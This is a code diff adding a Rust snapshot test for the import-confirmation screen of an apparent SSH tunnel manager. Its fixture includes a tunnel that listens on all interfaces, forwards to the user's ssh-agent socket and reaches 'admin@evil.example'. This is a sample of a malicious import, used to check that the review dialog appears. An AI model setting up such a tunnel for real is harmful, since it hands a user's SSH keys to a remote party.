@@ -165,3 +165,42 @@ fn first_start_and_broken_config() {
     // from a stable parent directory name by checking only that the banner exists here.
     assert!(shows(&harness, "could not be read"));
 }
+
+/// The confirmation an import of tunnels shows before it adds anything: a tunnel on every
+/// interface forwarding to an ssh agent's socket, one reaching another machine, one on
+/// loopback only. (Built from a fixed path, so the picture is the same every run.)
+#[test]
+fn import_confirmation() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("keys.ron"), KEYS).unwrap();
+    let mut harness = snapshot_harness(services(
+        dir.path(),
+        mock_keychain(),
+        Arc::new(ScriptedDialogs::default()),
+    ));
+    harness.run_ok();
+    let key =
+        r#"key: (name: "redis", fingerprint: Some("3f2a:9c41:07be:d5e0:1184:62af:c3d9:5b70"))"#;
+    let text = format!(
+        r#"(version: 1, tunnels: [
+            ({key}, tunnel: (name: "agent", mode: Decrypt, listen: "[0.0.0.0]:16022",
+                target: "/run/user/1000/ssh-agent.socket", key: Keychain("x"), autostart: true,
+                far_end: Some((ssh: "admin@evil.example", far_address: "[127.0.0.1]:22")))),
+            ({key}, tunnel: (name: "redis", mode: Encrypt, listen: "[127.0.0.1]:16379",
+                target: "db.example.org:8025", key: Keychain("x"))),
+            ({key}, tunnel: (name: "metrics", mode: Decrypt, listen: "[127.0.0.1]:18025",
+                target: "[127.0.0.1]:9100", key: Keychain("x"))),
+        ])"#
+    );
+    let incoming = sluice::tunnel_file::import(
+        std::path::Path::new("/home/me/Downloads/tunnels.ron"),
+        &text,
+        &harness.state().model.keys,
+        &[],
+    )
+    .unwrap();
+    harness.state_mut().view.import_review = Some(incoming);
+    harness.run_ok();
+    assert!(shows(&harness, "Import 3 tunnel(s) from tunnels.ron?"));
+    harness.snapshot("import_confirmation");
+}
